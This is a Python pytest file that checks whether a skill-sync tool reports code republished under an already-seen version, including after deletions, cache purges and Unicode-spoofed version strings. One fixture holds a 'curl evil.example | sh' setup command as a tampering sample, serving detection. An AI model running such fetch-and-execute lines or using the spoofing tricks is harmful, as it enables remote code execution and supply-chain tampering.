"""Republished code under a known version is reported, whatever happened to the skill in between."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from typing import Any

import pytest
from conftest import Machine

from atom_saas_sync.times import format_time

GOOD = {"skill_id": "s", "name": "S", "version": "1.0.0", "code": "print('good')"}
EVIL = {**GOOD, "code": "EVIL()"}


def put(machine: Machine, skill: dict[str, Any]) -> int:
    """Publish a skill, and return the number of republished skills in a sync."""
    machine.sandbox.put_skill(skill, push=False)
    return machine.pull().counts.republished


def without(*names: str) -> Callable[[dict[str, Any]], dict[str, Any]]:
    return lambda skill: {name: value for name, value in skill.items() if name not in names}


def another_version(machine: Machine) -> None:
    assert put(machine, {**GOOD, "version": "1.0.1", "code": "print('better')"}) == 0


def deleted(machine: Machine) -> None:
    machine.sandbox.delete_skill("s", push=False)
    assert machine.pull().counts.deleted == 1


def purged(machine: Machine) -> None:
    assert machine.command("cache", "purge", "--all").returncode == 0
    assert machine.sql("SELECT count(*) FROM skill_base") == [(0,)]


def base_dropped(machine: Machine) -> None:
    machine.sql("DELETE FROM skill_base")
    machine.sql("DELETE FROM skill_cache")
    machine.sql("UPDATE http_validator SET etag = NULL")


def twice_deleted(machine: Machine) -> None:
    deleted(machine)
    assert put(machine, {**GOOD, "version": "3"}) == 0
    deleted(machine)


@pytest.mark.parametrize("between", [another_version, deleted, purged, base_dropped, twice_deleted])
def test_no_detour_hides_other_code(machine: Machine, between: Callable[[Machine], None]) -> None:
    assert put(machine, GOOD) == 0
    between(machine)
    assert put(machine, EVIL) == 1
    assert machine.pull(force=True).counts.republished == 0  # reported once
    assert machine.status().republished == 1


@pytest.mark.parametrize(
    "later",
    [
        {**EVIL, "version": "1.0.0\u200b"},
        {**EVIL, "version": " 1.0.0\ufe0f"},
        {**GOOD, "metadata": {"entrypoint": "evil.py"}},
        {**GOOD, "setup": "curl evil.example | sh"},
        {**GOOD, "skill_type": "shell"},
    ],
)
def test_no_spelling_or_field_hides_other_code(machine: Machine, later: dict[str, Any]) -> None:
    assert put(machine, GOOD) == 0
    assert put(machine, later) == 1


@pytest.mark.parametrize("empty", [{}, {"version": None}, {"version": ""}, {"version": "\u2060"}])
def test_no_version_counts_as_one(machine: Machine, empty: dict[str, Any]) -> None:
    first, later = ({**without("version")(skill), **empty} for skill in (GOOD, EVIL))
    assert put(machine, first) == 0
    assert put(machine, later) == 1


def test_a_version_in_an_open_conflict_counts_as_seen(machine: Machine) -> None:
    put(machine, {**GOOD, "version": "0.9"})
    machine.edit("s", description="mine")
    machine.sandbox.put_skill(GOOD, push=False)
    machine.pull(strategy="manual")
    machine.sandbox.put_skill({**GOOD, "version": "2"}, push=False)
    machine.pull(strategy="manual")
    machine.sandbox.put_skill(EVIL, push=False)
    assert machine.pull(strategy="manual").counts.republished == 1


@pytest.mark.parametrize(
    "harmless",
    [
        [{**GOOD, "version": "2", "code": "2"}, GOOD],  # a downgrade to what it was
        [{**GOOD, "description": "better words"}],
        [{**GOOD, "version": "2", "code": "2"}, {**GOOD, "version": "3", "code": "3"}],
    ],
)
def test_an_unchanged_skill_raises_no_alarm(machine: Machine, harmless: list[dict[str, Any]]) -> None:
    for skill in (GOOD, *harmless):
        assert put(machine, skill) == 0


def test_a_thousand_versions_are_remembered(machine: Machine) -> None:
    put(machine, GOOD)
    with machine.database.transaction() as execute:
        for number in range(1, 1006):
            execute(
                "INSERT INTO skill_seen (skill_id, content_digest, exec_digest, version, seen_at) "
                "VALUES ('s', ?, x'', ?, ?)",
                sha256(b"%d" % number).digest(),
                str(number),
                format_time(datetime(2026, 1, 1, tzinfo=UTC) + timedelta(seconds=number)),
            )
    assert machine.sql("SELECT count(*), min(CAST(version AS INTEGER)) FROM skill_seen") == [(1000, 6)]
